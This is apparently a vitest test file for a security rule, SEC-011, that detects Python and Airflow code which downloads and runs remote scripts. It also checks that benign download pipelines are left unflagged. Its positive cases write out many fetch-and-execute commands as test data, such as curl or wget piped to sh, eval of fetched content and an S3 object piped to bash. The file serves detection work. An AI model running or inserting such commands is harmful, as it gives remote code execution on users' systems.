import { describe, expect, test } from "vitest";
import { placesIn } from "../../analysis/inspect-texts.ts";

const places = (text: string) => placesIn("SEC-011", text);

describe("commands that run what they download", () => {
  test.each([
    ["a file that is run", 'import os\nos.system("curl -s https://example.org/i > i.sh; sh i.sh")\n'],
    [
      "a file that is made a program",
      'import os\nos.system("wget -O /tmp/i https://example.org/i && chmod +x /tmp/i && /tmp/i")\n',
    ],
    ["os.execv", 'import os\nos.execv("/bin/sh", ["x", "-c", "curl -s https://example.org/i | sh"])\n'],
    ["os.execlp", 'import os\nos.execlp("bash", "x", "-c", "curl -s https://example.org/i | sh")\n'],
    [
      "os.spawnve",
      'import os\nos.spawnve(os.P_WAIT, "/bin/sh", ["x", "-c", "curl -s https://example.org/i | sh"], {})\n',
    ],
    ["os.posix_spawn", 'import os\nos.posix_spawn("/bin/sh", ["x", "-c", "curl -s https://example.org/i | sh"], {})\n'],
    ["pty.spawn", 'import pty\npty.spawn(["sh", "-c", "curl -s https://example.org/i | sh"])\n'],
    ["another language", `import os\nos.system('python3 -c "$(curl -s https://example.org/i)"')\n`],
    ["xargs", 'import os\nos.system("curl -s https://example.org/i | xargs -I{} sh -c {}")\n'],
    ["a bucket", 'import os\nos.system("aws s3 cp s3://acme/i.sh - | bash")\n'],
    [
      "words for a process",
      'import asyncio\nasyncio.create_subprocess_exec("sh", "-c", "curl -s https://example.org/i | sh")\n',
    ],
    [
      "curl to bash",
      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="curl -sSL https://example.org/i.sh | bash")\n',
    ],
    [
      "wget to sh",
      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="wget -qO- https://example.org/i.sh | sudo sh")\n',
    ],
    [
      "with a step between",
      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="curl -s https://example.org/i.gz | gunzip | sh -s -- -y")\n',
    ],
    [
      "substitution",
      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="bash -c \\"$(curl -fsSL https://example.org/i.sh)\\"")\n',
    ],
    [
      "a process substitution",
      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="bash <(curl -s https://example.org/i.sh)")\n',
    ],
    [
      "eval",
      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="eval \\"$(curl -s https://example.org/env)\\"")\n',
    ],
    [
      "to Python",
      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="curl -s https://example.org/i.py | python3 -")\n',
    ],
    ["by os.system", 'import os\nos.system("curl https://example.org/i.sh | bash")\n'],
    [
      "in a pod",
      'from airflow.providers.cncf.kubernetes.operators.pod import KubernetesPodOperator\nKubernetesPodOperator(cmds=["sh", "-c"], arguments=["curl https://example.org/i.sh | sh"])\n',
    ],
  ])("%s", async (_, text) => {
    expect(await places(text)).toHaveLength(1);
  });

  test.each([
    [
      "words of another program",
      'import os\nos.execv("/bin/echo", ["sh", "-c", "curl -s https://example.org/i | sh"])\n',
    ],
    [
      "to jq",
      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="curl -s https://example.org/a.json | jq .a")\n',
    ],
    [
      "to Python's JSON tool",
      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="curl -s https://example.org/a.json | python -m json.tool")\n',
    ],
    [
      "to a file",
      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="curl -s https://example.org/a.csv -o a.csv; sh transform.sh a.csv")\n',
    ],
    [
      "over SSH",
      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="curl -s https://example.org/a.csv | ssh host \'cat > a.csv\'")\n',
    ],
    [
      "no shell",
      'from airflow.providers.cncf.kubernetes.operators.pod import KubernetesPodOperator\nKubernetesPodOperator(cmds=["echo"], arguments=["curl https://example.org/i.sh | sh"])\n',
    ],
    ["data that is read", 'import os\nos.system("curl -so d.csv https://example.org/d; python load.py d.csv")\n'],
    ["data by words", "import os\nos.system(\"curl -s https://example.org/l | xargs -I{} sh -c 'echo {}'\")\n"],
  ])("not: %s", async (_, text) => {
    expect(await places(text)).toEqual([]);
  });
});
